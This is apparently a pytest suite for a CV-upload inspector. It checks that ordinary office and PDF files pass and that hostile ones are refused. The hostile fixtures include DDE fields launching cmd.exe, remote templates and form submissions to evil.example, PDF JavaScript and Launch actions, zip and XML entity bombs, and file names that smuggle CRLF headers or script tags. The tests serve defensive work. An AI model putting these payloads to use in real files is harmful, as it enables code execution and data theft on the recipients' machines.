"""Files that people send: each accepted type, each refusal, names, and what chance does to a file."""

import io
import random
import struct
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Mapping

import olefile
import pypdf
import pytest

from models.documents.inspection.inspector import MAX_SIZE, inspect
from models.documents.inspection.kinds import FileType, Looks, Reason
from models.documents.inspection.names import safe_name
from models.refusal import Refused
from tests import files

MAKERS = {"pdf": files.pdf, "doc": files.doc, "docx": files.docx, "odt": files.odt, "rtf": files.rtf}
WEB = "https://fr.linkedin.com/in/amina"
EVIL = "https://evil.example/x.dotm"


# --- Makers of parts --------------------------------------------------------------------------------------------------


def docx(body: str = "", **parts: str | bytes) -> bytes:
    """A Word document with more in its body, and with parts whose names are given in `parts` as a mapping."""
    return files.archive(files.docx_parts(body=body) | parts)


def docx_link(kind: str, target: str, part: str = "document", mode: str = "External") -> bytes:
    return docx(**{f"word/_rels/{part}.xml.rels": files.relationships(kind, target, mode)})


def field(instruction: str) -> str:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in instruction)
    return f"<w:p>{begin}{runs}{end}</w:p>"


def odt(body: str = "", **parts: str | bytes) -> bytes:
    return files.archive(files.odt_parts(body=body) | parts)


def meta(template: str) -> str:
    return files.odf("office:document-meta", f'<office:meta><meta:template xlink:href="{template}"/></office:meta>')


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    return files.pdf_of([*files.pdf_objects(), *objects], trailer)


def object_stream(*bodies: bytes, dictionary: bytes = b"/Type /ObjStm /N %d /First %d") -> bytes:
    """Objects packed in one compressed stream, as writers do since PDF 1.5."""
    offsets = [sum(len(body) + 1 for body in bodies[:index]) for index in range(len(bodies))]
    header = b" ".join(b"%d %d" % (90 + index, offset) for index, offset in enumerate(offsets)) + b"\n"
    packed = zlib.compress(header + b"\n".join(bodies))
    return files.stream(packed, dictionary % (len(bodies), len(header)) + b" /Filter /FlateDecode")


def encrypted_entry(content: bytes) -> bytes:
    """The same zip with the flag of a password on each entry."""
    data = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def lying_about_size(content: bytes, size: int) -> bytes:
    """The same zip whose directory promises that its last entry is small."""
    data = bytearray(content)
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", size)
    return bytes(data)


def overlapping() -> bytes:
    """A Word document whose directory names the bytes of one entry twice."""
    data = docx(**{"word/a.xml": "<a/>"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entry = archive.getinfo("word/a.xml")
    start, size = data.find(b"PK\x01\x02"), 46
    directory, end = data[start:-22], data[-22:]
    twin = bytearray(directory[directory.rfind(b"PK\x01\x02") :])
    twin[size : size + len(entry.filename)] = b"word/b.xml"
    count = struct.unpack_from("<H", end, 10)[0] + 1
    length = len(directory) + len(twin)
    return data[:start] + directory + bytes(twin) + end[:8] + struct.pack("<HHI", count, count, length) + end[16:]


def refused(name: str, content: bytes) -> Refused:
    with pytest.raises(Refused) as refusal:
        inspect(name, content)
    return refusal.value


# --- What comes in ----------------------------------------------------------------------------------------------------

WORD_DOCX = {
    "docProps/app.xml": "<Properties><Template>Normal.dotm</Template></Properties>",
    "docProps/core.xml": "<coreProperties><title>CV d'Amina</title></coreProperties>",
    "word/styles.xml": "<styles/>" + " " * 5000,
    "word/theme/theme1.xml": "<theme/>",
    "word/media/image1.png": files.png(),
    "word/_rels/document.xml.rels": files.relationships("hyperlink", WEB),
    "word/_rels/settings.xml.rels": files.relationships(
        "attachedTemplate", r"file:///C:\Users\Amina\AppData\Roaming\Microsoft\Templates\CV.dotx"
    ),
}
LIBREOFFICE_DOCX = {
    "word/fontTable.xml": "<fonts/>",
    "word/_rels/document.xml.rels": files.relationships("hyperlink", "mailto:amina@example.fr"),
}

ACCEPTED = {
    "a Word document with a photo, a link and a template": ("cv.docx", docx(**WORD_DOCX)),
    "a LibreOffice document saved for Word": ("cv.docx", docx(**LIBREOFFICE_DOCX)),
    "a document of Word online": (
        "cv.docx",
        files.archive({k.replace("document.xml", "document2.xml"): v for k, v in files.docx_parts().items()}),
    ),
    "a docx with page numbers and a link as fields": ("cv.docx", docx(field("PAGE") + field(f' HYPERLINK "{WEB}" '))),
    "a docx with a phone number to press": ("cv.docx", docx_link("hyperlink", "tel:+33102030405")),
    "a docx with an address without https": ("cv.docx", docx_link("hyperlink", "www.amina.example")),
    "an odt with a link and a photo": (
        "cv.odt",
        odt(
            f'<text:a xlink:href="{WEB}">moi</text:a><draw:image xlink:href="Pictures/1.png"/>',
            **{"Pictures/1.png": files.png(), "Configurations2/": b""},
        ),
    ),
    "an odt made from a template of its writer": ("cv.odt", odt(**{"meta.xml": meta("file:///C:/Modeles/cv.ott")})),
    "a pdf with a link": (
        "cv.pdf",
        pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (%b) >> >>" % WEB.encode()),
    ),
    "a pdf that opens at its first page": ("cv.pdf", pdf(b"<< /OpenAction [3 0 R /Fit] >>")),
    "a pdf of a web developer": ("cv.pdf", pdf(b"<< /Title (HTML/JavaScript \\(React\\)/JS) >>")),
    "a pdf that draws the word": ("cv.pdf", files.pdf("HTML/JavaScript/Launch")),
    "a pdf with packed objects": ("cv.pdf", pdf(object_stream(b"<< /Title (CSS/JavaScript) >>", b"[1 2 (x)]", b"42"))),
    "a pdf with an extra line at its end": ("cv.pdf", files.pdf() + b"\r\n"),
    "an rtf with a link": (
        "cv.rtf",
        files.rtf(extra=r'{\field{\*\fldinst{HYPERLINK "https://amina.example"}}{\fldrslt moi}}'),
    ),
    "an rtf made from a template of its writer": (
        "cv.rtf",
        files.rtf(extra=r"{\*\template C:\\Users\\Amina\\CV.dotx}"),
    ),
    "an rtf that names control words": ("cv.rtf", files.rtf(r"J'ai appris \objdata et \template {à l'école}")),
    "a doc with a link": ("cv.doc", files.doc(f'CV \x13 HYPERLINK "{WEB}" \x14moi\x15')),
    "a name in capitals": ("CV_AminaBenali_Comptable.PDF", files.pdf()),
    "a name with accents and a path": (r"C:\Mes papiers\Été à Nîmes.pdf", files.pdf()),
}


@pytest.mark.parametrize("ending", MAKERS)
def test_each_type_comes_in_under_its_own_extension(ending):
    assert inspect(f"cv.{ending}", MAKERS[ending]()).type == FileType(ending)


@pytest.mark.parametrize(("name", "content"), ACCEPTED.values(), ids=ACCEPTED)
def test_ordinary_cv_comes_in(name, content):
    assert inspect(name, content)


def test_file_of_the_largest_size_comes_in_and_one_byte_more_does_not():
    text = "A" * 900_000
    padding = MAX_SIZE - len(files.rtf(text))
    whole = files.rtf(text + "A" * padding)
    assert len(whole) == MAX_SIZE == 1_024_000
    assert inspect("cv.rtf", whole).type == FileType.RTF
    refusal = refused("cv.rtf", files.rtf(text + "A" * (padding + 1)))
    assert refusal.reason == Reason.TOO_LARGE
    assert refusal.facts["limit"] == MAX_SIZE


def test_pdf_of_the_tests_is_readable_by_a_reader_that_is_not_ours():
    reader = pypdf.PdfReader(io.BytesIO(files.pdf("CV\nAmina (née à Orléans)")), strict=True)
    assert reader.pages[0].extract_text().split("\n")[:2] == ["CV", "Amina (née à Orléans)"]


def test_container_of_the_tests_is_readable_by_a_reader_that_is_not_ours():
    content = files.doc(streams={"Macros/VBA/dir": b"x"})
    container = olefile.OleFileIO(io.BytesIO(content), raise_defects=olefile.DEFECT_POTENTIAL)
    assert container.openstream("Macros/VBA/dir").read(1) == b"x"


# --- What does not ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", MAKERS)
def test_empty_file_is_refused(ending):
    assert refused(f"cv.{ending}", b"").reason == Reason.EMPTY


@pytest.mark.parametrize(
    ("name", "content", "looks"),
    [
        ("photo.png", files.png(), Looks.IMAGE),
        ("photo.jpg", files.jpeg(), Looks.IMAGE),
        ("voix.ogg", files.ogg(), Looks.AUDIO),
        ("film.mp4", files.mp4(), Looks.VIDEO),
        ("cv.zip", files.archive({"cv.txt": "CV"}), Looks.ARCHIVE),
        ("cv.exe", files.exe(), Looks.PROGRAM),
        ("cv.html", files.web_page(), Looks.WEB_PAGE),
        ("cv.txt", "Née à Nîmes\n".encode(), Looks.TEXT),
        ("cv.xlsx", files.docx(), Looks.DOCUMENT),
        ("cv", files.pdf(), Looks.DOCUMENT),
        ("", files.pdf(), Looks.DOCUMENT),
        ("cv.pages", b"\x01\x02\xff\xfe\x80", None),
        ("cv\u202efdp.exe", files.exe(), Looks.PROGRAM),
        ("cv.pdf\0.exe", files.exe(), Looks.PROGRAM),
    ],
)
def test_other_type_is_refused_with_what_it_looks_like(name, content, looks):
    refusal = refused(name, content)
    assert (refusal.reason, refusal.facts["looks"]) == (Reason.NOT_ACCEPTED, looks)


@pytest.mark.parametrize("claimed", MAKERS)
@pytest.mark.parametrize("actual", MAKERS)
def test_type_that_is_not_its_extension_is_refused(claimed, actual):
    if claimed == actual:
        return
    refusal = refused(f"cv.{claimed}", MAKERS[actual]())
    assert (refusal.reason, refusal.facts["looks"]) == (Reason.MISMATCH, Looks.DOCUMENT)


@pytest.mark.parametrize("claimed", MAKERS)
@pytest.mark.parametrize(
    ("content", "looks"), [(files.png(), Looks.IMAGE), (files.exe(), Looks.PROGRAM), (files.web_page(), Looks.WEB_PAGE)]
)
def test_anything_else_under_our_extension_is_refused(claimed, content, looks):
    refusal = refused(f"cv.{claimed}", content)
    assert (refusal.reason, refusal.facts["looks"]) == (Reason.MISMATCH, looks)


PACKED = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
DTD = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
WORD_TYPE = "wordprocessingml.document.main"
SCRIPT_LINK = (
    '<script:event-listener xlink:href="vnd.sun.star.script:Standard.M.x?language=Basic&amp;location=document"/>'
)

TYPES = str(files.docx_parts()["[Content_Types].xml"])
WORKBOOK = TYPES.replace(WORD_TYPE, "spreadsheetml.sheet.main")
WITH_MACROS = TYPES.replace(f"openxmlformats-officedocument.{WORD_TYPE}", "ms-word.document.macroEnabled.main")

MISMATCHES = {
    "a workbook": ("cv.docx", docx(**{"[Content_Types].xml": WORKBOOK})),
    "a pdf after something else": ("cv.pdf", b"\n" + files.pdf()),
    "a pdf that is also a web page": ("cv.pdf", files.pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)),
    "a pdf that is also a zip": ("cv.pdf", files.pdf() + files.archive({"x": "x"})),
    "a zip that is also a pdf": ("cv.docx", files.archive({"%PDF-1.7": "x"} | files.docx_parts())),
    "a zip of anything": ("cv.docx", files.archive({"cv.txt": "CV"})),
    "an ods": ("cv.odt", odt(mimetype="application/vnd.oasis.opendocument.spreadsheet")),
    "an old workbook": ("cv.doc", files.ole({"Workbook": b"x"})),
}
MACROS = {
    "a docm": ("cv.docm", files.docx()),
    "a docm called docx": ("cv.docx", docx(**{"[Content_Types].xml": WITH_MACROS})),
    "a docx with a project": ("cv.docx", docx(**{"word/vbaProject.bin": b"x"})),
    "a docx with a project under another name": (
        "cv.docx",
        docx_link("vbaProject", "media/image9.bin", mode="Internal"),
    ),
    "a doc with a project": ("cv.doc", files.doc(streams={"Macros/VBA/_VBA_PROJECT": b"x", "Macros/PROJECT": b"x"})),
    "a doc with a project out of the directory": (
        "cv.doc",
        files.doc("_VBA_PROJECT".encode("utf-16-le").decode("latin-1")),
    ),
    "an odt with Basic": ("cv.odt", odt(**{"Basic/Standard/Module1.xml": "<a/>"})),
    "an odt with Python": ("cv.odt", odt(**{"Scripts/python/a.py": "print()"})),
    "an odt that calls a macro": ("cv.odt", odt(f"<office:event-listeners>{SCRIPT_LINK}</office:event-listeners>")),
}

ENCRYPTED = {
    "a pdf": ("cv.pdf", pdf(trailer=b"/Encrypt 9 0 R")),
    "a pdf, in its second object": ("cv.pdf", pdf(b"<< /Type /XRef /Encr#79pt << /V 5 >> >>")),
    "a docx": ("cv.docx", files.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    "a docx called doc": ("cv.doc", files.ole({"EncryptedPackage": b"x"})),
    "entries of a zip": ("cv.docx", encrypted_entry(files.docx())),
    "an odt": (
        "cv.odt",
        odt(
            **{
                "META-INF/manifest.xml": files.odf(
                    "manifest:manifest",
                    "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
                ),
                "content.xml": b"\x8a\x01\x02",
            }
        ),
    ),
    "a doc": ("cv.doc", files.doc(flags=0x0300)),
}

EXTERNAL = {
    "docx: template from the network": ("cv.docx", docx_link("attachedTemplate", EVIL, "settings")),
    "docx: template from a shared folder": ("cv.docx", docx_link("attachedTemplate", r"\\evil\x.dotm", "settings")),
    "docx: template from a server by file": (
        "cv.docx",
        docx_link("attachedTemplate", "file://evil/x.dotm", "settings"),
    ),
    "docx: image": ("cv.docx", docx_link("image", "https://evil.example/pixel.png")),
    "docx: frame": ("cv.docx", docx_link("frame", "https://evil.example/")),
    "docx: linked object": ("cv.docx", docx_link("oleObject", EVIL)),
    "docx: embedded object": ("cv.docx", docx_link("oleObject", "embeddings/a.bin", mode="Internal")),
    "docx: embedded page": ("cv.docx", docx_link("aFChunk", "a.html", mode="Internal")),
    "docx: control": ("cv.docx", docx_link("control", "activeX1.xml", mode="Internal")),
    "docx: object under a picture's name": ("cv.docx", docx(**{"word/media/a.png": files.ole({"a": b"x"})})),
    "docx: program": ("cv.docx", docx(**{"word/media/a.png": files.exe()})),
    "docx: link to a script": ("cv.docx", docx_link("hyperlink", "javascript:alert(1)")),
    "docx: link to a file": ("cv.docx", docx_link("hyperlink", "file://evil/x")),
    "docx: link to a shared folder": ("cv.docx", docx_link("hyperlink", r"\\evil\x")),
    "docx: DDE cut into runs": ("cv.docx", docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
    "docx: picture field": ("cv.docx", docx(field(' INCLUDEPICTURE "https://evil.example/p.png" \\d'))),
    "docx: simple DDE field": ("cv.docx", docx('<w:fldSimple w:instr=" DDE cmd x"/>')),
    "docx: simple DDE field after another": (
        "cv.docx",
        docx('<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr=" DDE cmd x"/>'),
    ),
    "docx: drawing from the network": (
        "cv.docx",
        docx('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/p.png"/>'),
    ),
    "odt: image": ("cv.odt", odt('<draw:image xlink:href="https://evil.example/p.png"/>')),
    "odt: image of a neighbour": ("cv.odt", odt('<draw:image xlink:href="../p.png"/>')),
    "odt: object": ("cv.odt", odt('<draw:object xlink:href="file:///etc/passwd"/>')),
    "odt: OLE object": ("cv.odt", odt('<draw:object-ole xlink:href="./Object 1"/>')),
    "odt: object of another kind": ("cv.odt", odt(**{"Object 1": files.ole({"a": b"x"})})),
    "odt: section": ("cv.odt", odt('<text:section-source xlink:href="https://evil.example/a.odt"/>')),
    "odt: frame": ("cv.odt", odt('<draw:floating-frame xlink:href="a.html"/>')),
    "odt: DDE": ("cv.odt", odt('<office:dde-source office:dde-application="soffice"/>')),
    "odt: link to a script": ("cv.odt", odt('<text:a xlink:href="vnd.sun.star.script:a"/>')),
    "odt: template from the network": ("cv.odt", odt(**{"meta.xml": meta("https://evil.example/x.ott")})),
    "rtf: template": ("cv.rtf", files.rtf(extra=r"{\*\template http://evil.example/x.dotm}")),
    "rtf: template in codes": ("cv.rtf", files.rtf(extra=r"{\*\template \'68\'74tp://evil.example/x.dotm}")),
    "rtf: template of a shared folder": ("cv.rtf", files.rtf(extra=r"{\*\template \\\\evil\\x.dotm}")),
    "rtf: object": ("cv.rtf", files.rtf(extra=r"{\object\objemb{\*\objdata 0105}}")),
    "rtf: data of an object alone": ("cv.rtf", files.rtf(extra=r"{{\*\objdata0105}}")),
    "rtf: object that opens itself": ("cv.rtf", files.rtf(extra=r"{\*\x\objupdate }")),
    "rtf: raw bytes": ("cv.rtf", files.rtf(extra=r"{\pict\bin4 }}}}}")),
    "rtf: DDE": ("cv.rtf", files.rtf(extra=r'{\field{\*\fldinst{\b D}{\i DE}{AUTO cmd "/k calc"}}}')),
    "rtf: DDE in codes": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst \'44\'44E cmd x}}")),
    "rtf: DDE in other codes": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst\uc0 \u68\u68\u69  cmd x}}")),
    "rtf: DDE inside a field": (
        "cv.rtf",
        files.rtf(extra=r"{\field{\*\fldinst IF {\field{\*\fldinst DDE cmd x}} = 1}}"),
    ),
    "rtf: picture field": ("cv.rtf", files.rtf(extra=r"{\field{\*\fldinst  INCLUDEPICTURE http://evil.example/p}}")),
    "doc: DDE": ("cv.doc", files.doc('\x13DDEAUTO c:\\cmd.exe "/k calc"\x15')),
    "doc: DDE in wide letters": ("cv.doc", files.doc('\x13DDE cmd "x"\x15'.encode("utf-16-le").decode("latin-1"))),
    "doc: embedded object": ("cv.doc", files.doc(streams={"ObjectPool/_1/\x01Ole10Native": b"x"})),
    "doc: template from the network": ("cv.doc", files.doc(streams={"1Table": EVIL.encode("utf-16-le")})),
    "pdf: JavaScript": ("cv.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    "pdf: JavaScript in codes": ("cv.pdf", pdf(b"<< /S /J#61v#61Script /#4AS 7 0 R >>")),
    "pdf: JavaScript at opening": ("cv.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (x) >> >>")),
    "pdf: JavaScript packed": ("cv.pdf", pdf(object_stream(b"42", b"<< /S /JavaScript /JS (x) >>"))),
    "pdf: JavaScript packed without its type": (
        "cv.pdf",
        pdf(object_stream(b"<< /S /JavaScript /JS (x) >>", dictionary=b"/N %d /First %d")),
    ),
    "pdf: JavaScript packed after an open text": ("cv.pdf", pdf(object_stream(b"1 (", b"<< /S /JavaScript >>"))),
    "pdf: JavaScript after an open text": ("cv.pdf", pdf(b"1 (", b"<< /S /JavaScript >>")),
    "pdf: JavaScript after an end": ("cv.pdf", pdf(b"<< endobj /S /JavaScript >>")),
    "pdf: JavaScript after a remark": ("cv.pdf", pdf(b"<< % (\n /S /JavaScript >>")),
    "pdf: program": ("cv.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf: file": ("cv.pdf", pdf(files.stream(b"x", b"/Type /EmbeddedFile"))),
    "pdf: file without its type": ("cv.pdf", pdf(b"<< /Type /Filespec /EF << /F 7 0 R >> >>")),
    "pdf: film": ("cv.pdf", pdf(b"<< /Type /Annot /Subtype /RichMedia >>")),
    "pdf: form that is sent": ("cv.pdf", pdf(b"<< /S /SubmitForm /F (https://evil.example) >>")),
}

BOMBS = {
    "over 500 entries": ("cv.docx", docx(**{f"word/{n}.xml": "<a/>" for n in range(500)})),
    "over 20 MB": (
        "cv.docx",
        docx(**{f"word/media/{n}.bmp": random.Random(n).randbytes(30_000) * 75 for n in range(10)}),
    ),
    "ratio over 100": ("cv.odt", odt(**{"Pictures/a.bmp": b"\0" * 5_000_000})),
    "more than promised": ("cv.docx", lying_about_size(docx(**{"word/a.bmp": b"\0" * 5_000_000}), 10)),
    "zip in a zip": ("cv.docx", docx(**{"word/embeddings/a.xlsx": files.archive({"a": "a"})})),
    "gzip in a zip": ("cv.odt", odt(**{"Pictures/a.emz": b"\x1f\x8b\x08\0"})),
    "entries one over the other": ("cv.docx", overlapping()),
    "entities in a docx": ("cv.docx", docx(**{"word/footnotes.xml": DTD})),
    "entities in an odt": ("cv.odt", odt(**{"styles.xml": DTD})),
    "entities in wide letters": ("cv.docx", docx(**{"word/footnotes.xml": DTD.encode("utf-16")})),
    "XML without a bottom": ("cv.docx", docx(**{"word/a.xml": "<a>" * 2000})),
    "entities under a picture's name": ("cv.odt", odt(**{"Pictures/a.png": DTD})),
    "a pdf with a huge packed object": ("cv.pdf", pdf(object_stream(b"0" * 21_000_000))),
    "a pdf of open texts": ("cv.pdf", pdf(b"1 0 obj (" * 50_000)),
    "a pdf of names": ("cv.pdf", pdf(object_stream(b"[" + b"/a" * 600_000 + b"]"))),
}

DAMAGED = {
    "a docx without its document": (
        "cv.docx",
        files.archive({k: v for k, v in files.docx_parts().items() if "document" not in k}),
    ),
    "an odt without its content": (
        "cv.odt",
        files.archive({k: v for k, v in files.odt_parts().items() if k != "content.xml"}),
    ),
    "a docx with broken XML": ("cv.docx", docx(**{"word/styles.xml": "<styles>"})),
    "a zip with something behind": ("cv.docx", files.docx() + b"MZ"),
    "a zip with one entry twice": ("cv.docx", docx(**{"WORD/DOCUMENT.XML": "<a/>"})),
    "a zip with a path out": ("cv.odt", odt(**{"../../evil.xml": "<a/>"})),
    "a doc without its table": ("cv.doc", files.ole({"WordDocument": struct.pack("<HH6xH", 0xA5EC, 0xC1, 0)})),
    "a doc without its magic": ("cv.doc", files.ole({"WordDocument": b"x"})),
    "a pdf without a page": ("cv.pdf", files.pdf_of([b"<< /Type /Catalog >>"])),
    "a pdf whose packed objects are cut": ("cv.pdf", pdf(files.stream(zlib.compress(b"4 0 42")[:-5], PACKED))),
    "a pdf with another packing": (
        "cv.pdf",
        pdf(files.stream(b"<~~>", b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]")),
    ),
    "an rtf with a group left open": ("cv.rtf", files.rtf(extra="{")),
    "an rtf with something behind": ("cv.rtf", files.rtf() + b"MZ"),
}

REFUSED: Mapping[Reason, dict[str, tuple[str, bytes]]] = {
    Reason.MISMATCH: MISMATCHES,
    Reason.MACROS: MACROS,
    Reason.ENCRYPTED: ENCRYPTED,
    Reason.EXTERNAL: EXTERNAL,
    Reason.BOMB: BOMBS,
    Reason.DAMAGED: DAMAGED,
}


@pytest.mark.parametrize(
    ("reason", "name", "content"),
    [
        pytest.param(reason, name, content, id=f"{reason}: {case}")
        for reason, cases in REFUSED.items()
        for case, (name, content) in cases.items()
    ],
)
def test_hostile_or_broken_file_is_refused_with_its_reason(reason, name, content):
    started = time.perf_counter()
    assert refused(name, content).reason == reason
    assert time.perf_counter() - started < 5  # a machine under load; alone, a fraction of a second


@pytest.mark.parametrize(
    "encoding", ["utf-7", "hex", "shift_jis", "unicode_escape", "undefined", "punycode", "nonsense"]
)
def test_xml_in_an_odd_encoding_is_damaged(encoding):
    part = f'<?xml version="1.0" encoding="{encoding}"?><a>CV</a>'.encode()
    assert refused("cv.docx", docx(**{"word/a.xml": part})).reason == Reason.DAMAGED


@pytest.mark.parametrize("ending", MAKERS)
def test_file_cut_anywhere_is_damaged(ending):
    content = MAKERS[ending]("Une ligne de CV\n" * 20)
    cuts = random.Random(7).sample(range(10, len(content.rstrip(b"\0\r\n")) - 8), 20)
    reasons = {refused(f"cv.{ending}", content[:cut]).reason for cut in cuts}
    assert reasons == {Reason.DAMAGED}


@pytest.mark.parametrize("ending", MAKERS)
def test_chance_cannot_break_the_inspection(ending):
    """300 random changes to files of each type: accepted or refused, never anything else, and soon."""
    chance = random.Random(ending)
    originals = [MAKERS[ending]("Amina\n" * 30), *(data for name, data in ACCEPTED.values() if name.endswith(ending))]
    slowest, reasons = 0.0, set()
    for _ in range(300):
        content = mutated(chance, chance.choice(originals))
        started = time.process_time()
        reasons.add(outcome(f"cv.{ending}", content))
        slowest = max(slowest, time.process_time() - started)
    assert reasons <= {None, *Reason}
    assert len(reasons) > 1
    assert slowest < 1


def outcome(name: str, content: bytes) -> str | None:
    try:
        inspect(name, content)
    except Refused as refusal:
        return refusal.reason
    return None


def mutated(chance: random.Random, content: bytes) -> bytes:
    """The content changed by chance; in a zip, half of the time one of its parts, or the sums would tell at once."""
    if not content.startswith(b"PK") or chance.random() < 0.5:
        return scrambled(chance, content, keep=8)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = chance.choice([name for name, data in parts.items() if data])
    return files.archive(parts | {name: scrambled(chance, parts[name], keep=0)})


def scrambled(chance: random.Random, content: bytes, keep: int) -> bytes:
    """The content with a few bytes changed, cut out or doubled; the first ones stay, to get past the door."""
    data = bytearray(content)
    for _ in range(chance.randint(1, 8)):
        place = chance.randrange(keep, len(data))
        length = chance.choice([1, 1, 1, 4, 40])
        match chance.randrange(4):
            case 0:
                data[place : place + length] = chance.randbytes(length)
            case 1 if len(data) > keep + 8 + length:
                del data[place : place + length]
            case 2:
                data[place:place] = data[place : place + length]
            case _:
                data[place : place + 4] = chance.choice([b"\xff\xff\xff\xff", b"\0\0\0\0", b"\xff\xff\xff\x7f"])
    return bytes(data)


# --- Names ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("CV_AminaBenali_Comptable.pdf", "CV_AminaBenali_Comptable.pdf"),
        ("Été à Nîmes – œuvre.pdf", "Été à Nîmes – œuvre.pdf"),
        (unicodedata.normalize("NFD", "Hélène.odt"), "Hélène.odt"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        (r"C:\Users\Amina\cv.docx", "cv.docx"),
        ("cv\0.pdf", "cv.pdf"),
        ("cv\r\nSet-Cookie: x.pdf", "cv Set-Cookie x.pdf"),
        ("cv\u202efdp.exe", "cvfdp.exe"),
        ("c\u200bv\ufeff.pdf", "cv.pdf"),
        ("cv\ud83d.pdf", "cv.pdf"),
        ('"><script>.pdf', "script.pdf"),
        ("  cv  final .pdf ", "cv final.pdf"),
        ("cv.pdf. .", "cv.pdf"),
        (".pdf", "document.pdf"),
        ("..", "document"),
        ("", "document"),
        ("/", "document"),
        ("مسيرة ذاتية.pdf", "مسيرة ذاتية.pdf"),
        ("x" * 300 + ".docx", "x" * 75 + ".docx"),
        ("x." + "y" * 300, "x." + "y" * 78),
    ],
)
def test_name_is_shown_without_its_tricks(given, shown):
    assert safe_name(given) == shown
    assert safe_name(shown) == shown
